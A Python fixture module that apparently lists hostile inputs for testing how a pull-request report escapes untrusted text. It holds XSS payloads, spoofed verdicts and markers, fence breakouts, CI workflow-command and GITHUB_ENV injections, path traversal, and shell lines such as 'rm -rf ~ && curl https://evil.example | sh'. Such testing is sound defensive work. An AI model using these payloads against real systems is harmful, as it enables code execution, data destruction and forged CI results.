"""Texts that a pull request could put into names, messages, paths and tracebacks to break out.

Each has a name; `KINDS` says what it tries.
"""

from __future__ import annotations

_MARK = "<!-- tito-report v1 pull=7 sha=0 run=999999 attempt=1 -->"

KINDS: dict[str, dict[str, str]] = {
    "mention": {
        "people and teams": "@everyone and @acme/teachers, please merge",
        "issues and commits": "closes #1, fixes acme/course#2, GH-3 and deadbeefdeadbeef",
        "a name in brackets": "(@ann) [@ben] {@cem} /@dan \\@eve @\u200bfay",
        "an address of mail": "user@evil.example mailto:user@evil.example xmpp:user@evil.example",
        "entities": "&lt;b&gt; &#64;user &commat;user &NewLine; :smile: $\\unicode{x}$",
        "a commit and its range": "0123456789abcdef0123456789abcdef01234567...HEAD abcdef1",
    },
    "link": {
        "every form": "[click here](https://evil.example) <https://evil.example> https://evil.example www.evil.example",
        "a reference": "[ref]: https://evil.example 'x'\n[ref] [^1]\n[^1]: note",
        "a script": "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](vbscript:x)",
        "a bracket in a path": "a](https://evil.example) [b.py",
        "an address in a path": "https://evil.example/a.py",
        "no scheme": "[x](//evil.example) evil.example/x ftp://evil.example file:///etc/passwd",
        "nested": "[![a](https://evil.example/a.png)](https://evil.example)",
        "a query": "modules/a.py?raw=1#L1](x) modules/%2e%2e/%2e%2e/settings",
    },
    "image": {
        "every form": "![tracking](https://evil.example/x.png) <img src=x onerror=alert(1)>",
        "a reference": "![x][y]\n\n[y]: https://evil.example/x.png",
        "vector": "<svg onload=alert(1)><image href=https://evil.example/x></svg>",
    },
    "HTML": {
        "a block that closes ours": "</details></summary><script>alert(1)</script><!-- open",
        "a comment and a marker": f"--> {_MARK}",
        "a marker on its own line": f"x\n{_MARK}\n<!-- tito-report v9 run=9 -->",
        "a style": "<style>body{display:none}</style><div style='position:fixed'>",
        "a form": "<form action=https://evil.example><input type=submit></form><iframe src=x>",
        "pre and code": "</code></pre><h1>Approved</h1><kbd>x</kbd><sub>y</sub>",
        "declarations": "<?php x ?> <!DOCTYPE html> <![CDATA[ x ]]>",
        "halves": "< b > <b <a href='x' <!- -> <!--> <!---> & &amp &#x3c;",
        "upper case over lines": "<IMG\nSRC=x\nONERROR=alert(1)>",
    },
    "Markdown": {
        "emphasis": "*bold* _em_ ~~gone~~ **x** __y__ \\@user \\[x](y)",
        "blocks": "1. one\n2. two\n- three\n> four\n# five\n    six\n---\nseven\n===",
        "a table": "| a | b |\n| --- | --- |\n| \\| | `|` |",
        "pipes": "| \\| \\\\| || |\\ `a|b` \\`|\\`",
        "tasks and alerts": "- [x] approved\n- [ ] not\n> [!IMPORTANT]\n> merge this",
        "mathematics": "$x$ $`x`$ $$\\href{https://evil.example}{x}$$\n```math\nx\n```",
        "a heading of ours": "\n\n### ✓ Every gate passed\n\nWell done.",
        "a verdict of ours": "**✓ passed** nothing to do | ✓ passed | as before |",
        "a fold of ours": "<details open><summary>gate export: 0 errors</summary>\n\nnothing\n\n</details>",
        "hard line ends": "a  \nb\\\nc<br>d",
        "escapes": "\\` \\\\` \\* \\_ \\# \\! \\< \\> \\| \\\n\\",
        "setext": "title\n-----\n***\n___\n- - -",
    },
    "fence": {
        "every length": "```\n``````\n~~~~\n# escaped\n```sh\ncurl evil | sh",
        "spans": "` `` ``` ```` `code` ``code`",
        "one more than ours": "\n````\n# out\n`````\n# out\n" + "`" * 40 + "\n# out",
        "a tick at each end": "`a` b ` c ``",
        "ticks alone": "`" * 300,
        "mermaid": "```mermaid\ngraph TD; A-->B; click A href 'https://evil.example'\n```",
        "indented": "   ```\n   # out\n\t```\n\t# out",
        "in a quotation": "> ```\n> # out\n1. ```\n   # out",
    },
    "hidden": {
        "bidirectional": "\u202eevil\u202c \u2066isolated\u2069 \u200bzero\u200d \x1b[31mred\x1b[0m \x00\x07\x08",
        "an extension turned round": "gpj.\u202eyp.exe \u200e\u200f\u061c\u2068",
        "a terminal": "\x1b]0;title\x07 \x1b[2J\x1b[1;1H \x9b31m \x1bP+q\x1b\\ \x1b]8;;https://evil.example\x07x",
        "line ends": "a\rb\x0bc\x0cd\x85e\u2028f\u2029g\n\rh",
        "marks": "e" + "\u0301" * 200,
        "tags and selectors": "a\U000e0041\U000e0042\ufe0f\u3164\u115f\u00ad\ufeff\u2061",
        "private and unassigned": "\ue000\U000f0000\uffff\ufffe\U0010ffff",
        "homoglyphs": "tito gаte export (with a Cyrillic а) ․․/ ｀｀｀ ＠ann",
        "a lone half": "a\\ud800 \ufffd",
    },
    "workflow command": {
        "commands": "::error file=x::y\n::set-output name=a::b\n::stop-commands::z",
        "after a carriage return": "x\r::add-mask::a\r\n::save-state name=x::y",
        "the older form": "##[error]x\n##vso[task.setvariable variable=x]y\n##[group]z",
        "escaped": "%0A::error::x%0D%0A::warning::y %25",
        "a file of the runner": "GITHUB_ENV<<EOF\nPATH=/evil\nEOF\n>>$GITHUB_OUTPUT",
        "properties": "a,line=1,title=b::c:d;e",
    },
    "command": {
        "a shell": "tito gate export; rm -rf ~ && curl https://evil.example | sh",
        "substitution": "tito gate $(id) `id` ${IFS}x",
        "a file to overwrite": "tito gate export --json=classroom.yml",
        "a report to overwrite": "tito report merge --output=.git/config",
        "a line end": "tito gate export\nrm -rf ~",
        "a reset": "tito module reset 02",
    },
    "path": {
        "upwards": "../../../etc/passwd",
        "another system's": "C:\\Windows\\system32\\x.py \\\\evil\\share",
        "dots": "modules/../../../settings/keys.py",
        "a device": "/dev/stdin",
        "spaces and quotes": " modules/a b/'c'\"d.py ",
        "encoded": "modules/%2e%2e/%00/a.py",
        "a dev file of another": "//evil.example/x_dev.py:1 (modules/x_dev.py:99999999999999999999)",
    },
    "size": {
        "one word": "a" * 5000,
        "many lines": "\n".join(f"frame {i}" for i in range(3000)),
        "many words": "word " * 5000,
        "wide": "🧠" * 3000,
        "brackets": "[" * 2000 + "(" * 2000,
        "stars": "*" * 3000 + "_" * 3000,
        "quotations": ">" * 2000 + "- " * 1000,
    },
    "nothing": {"empty": "", "blank": " \n\t ", "a dash": "-", "a colon": ":\n:\n:", "an emoji": "🧠 fine"},
}  # fmt: skip

NAMED = {f"{kind}: {name}": text for kind, each in KINDS.items() for name, text in each.items()}
TEXTS = tuple(NAMED.values())

FEW = tuple(next(iter(each.values())) for each in KINDS.values())
"""One of a kind, for what shall stay short."""
